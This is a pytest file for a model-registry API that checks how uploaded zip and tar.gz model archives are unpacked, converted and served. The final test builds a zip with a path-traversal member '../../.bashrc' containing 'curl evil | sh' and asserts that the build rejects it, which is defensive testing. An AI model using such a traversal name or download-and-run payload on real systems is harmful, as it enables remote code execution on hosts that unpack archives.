"""Archives built end to end (issue 20): an ONNX model with its external data in a zip, a LightGBM model in a
tar.gz, and an archive with a member that would land outside its folder, each uploaded through the API, unpacked
in the sandbox, packaged and verified on the session's warm Triton (builds run inline, eager Celery)."""

from __future__ import annotations

import io
import tarfile
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile

from devtools.tree_models import lightgbm_model
from models_registry.storage import get_object_store
from tests.builds.test_inspection import save_model_with_external_weights

pytestmark = [pytest.mark.django_db]


def _upload(caller, capture, name: str, filename: str, data: bytes) -> dict:
    response = caller.client.post("/api/v1/models/", {"name": name, "team": caller.team.slug}, format="json")
    assert response.status_code == 201, response.content
    with capture(execute=True):
        response = caller.client.post(
            f"/api/v1/models/{response.json()['id']}/versions/", {"file": SimpleUploadedFile(filename, data)}
        )
    assert response.status_code in (201, 202), response.content
    return caller.client.get(f"/api/v1/versions/{response.json()['id']}/").json()


def _build(caller, version_id: int) -> dict:
    return caller.client.get(f"/api/v1/versions/{version_id}/builds/").json()["results"][0]


def _log(build: dict, step: str) -> list[str]:
    return [line.split(" ", 1)[1] for line in next(s["log"] for s in build["steps"] if s["name"] == step)]


def _zip_folder(folder: Path, arcname: str) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as bundle:
        for path in sorted(folder.rglob("*")):
            bundle.write(path, f"{arcname}/{path.relative_to(folder).as_posix()}")
    return buffer.getvalue()


@pytest.mark.e2e
def test_a_zip_of_an_onnx_model_and_its_external_data_is_served_with_both(
    alice, eager_tasks, django_capture_on_commit_callbacks, tmp_path
):
    # given an ONNX model whose weights live in weights.bin beside it, zipped as a folder (as `zip -r` packs one)
    folder = tmp_path / "adder"
    folder.mkdir()
    save_model_with_external_weights(folder)
    (folder / "README.md").write_text("how this model was trained\n")
    data = _zip_folder(folder, "adder")
    # when the zip is uploaded
    version = _upload(alice, django_capture_on_commit_callbacks, "adder", "adder.zip", data)
    build = _build(alice, version["id"])
    # then it is built: unpacked in the sandbox, the ONNX model found with its external data
    assert version["status"] == "built", version["error"]
    inspect = _log(build, "inspect")
    assert "format: model archive (zip or tar) (told from the name 'adder.zip' and the first bytes)" in inspect
    assert "unpacked the zip archive: 3 file(s), " in "\n".join(inspect)
    assert "the archive holds ONNX model: adder/model.onnx" in inspect
    assert build["source_format"] == "onnx"
    # and the repository holds model.onnx with weights.bin beside it (not the README), which the warm Triton loaded
    store = get_object_store()
    version_folder = f"{build['repository_prefix']}/adder/{version['number']}"
    assert sorted(store.list_keys(version_folder + "/")) == [
        f"{version_folder}/model.onnx",
        f"{version_folder}/weights.bin",
    ]
    assert store.read_bytes(f"{version_folder}/weights.bin") == (folder / "weights.bin").read_bytes()
    assert f"wrote {version_folder}/weights.bin (256 bytes): external data of the model, beside it" in _log(
        build, "write_repository"
    )
    assert any("smoke inference" in line or "batch" in line for line in _log(build, "verify"))
    # and the stored upload is the zip as it came; the repository's size counts the external data too
    from models_registry.models import ModelVersion

    assert store.read_bytes(ModelVersion.objects.get(pk=version["id"]).source_key) == data
    from builds.models import BuildRepository

    stored = BuildRepository.objects.get(version_id=version["id"]).size_bytes
    assert stored == sum(store.size(key) for key in store.list_keys(f"{build['repository_prefix']}/"))


@pytest.mark.e2e
def test_a_tar_gz_of_a_lightgbm_model_is_unpacked_then_converted(
    alice, eager_tasks, django_capture_on_commit_callbacks, tmp_path
):
    model = lightgbm_model(tmp_path / "churn.txt", "binary")
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as bundle:
        bundle.add(model, "./churn.txt")
    version = _upload(alice, django_capture_on_commit_callbacks, "churn", "churn.tgz", buffer.getvalue())
    assert version["status"] == "built", version["error"]
    build = _build(alice, version["id"])
    assert build["source_format"] == "lightgbm"
    inspect = _log(build, "inspect")
    assert "the archive holds LightGBM model (text): churn.txt" in inspect
    assert all(row["ok"] for row in build["conversion"]["comparison"])


def test_an_archive_with_a_member_outside_its_folder_fails_its_build_naming_the_member(
    alice, eager_tasks, django_capture_on_commit_callbacks, tmp_path
):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as bundle:
        bundle.writestr("model.onnx", b"\x08\x08")
        bundle.writestr("../../.bashrc", b"curl evil | sh\n")
    version = _upload(alice, django_capture_on_commit_callbacks, "sneaky", "model.zip", buffer.getvalue())
    assert version["status"] == "failed"
    assert version["error_field"] == "file"
    assert version["error"].startswith("Archive member '../../.bashrc' is refused: its name climbs out of the archive")
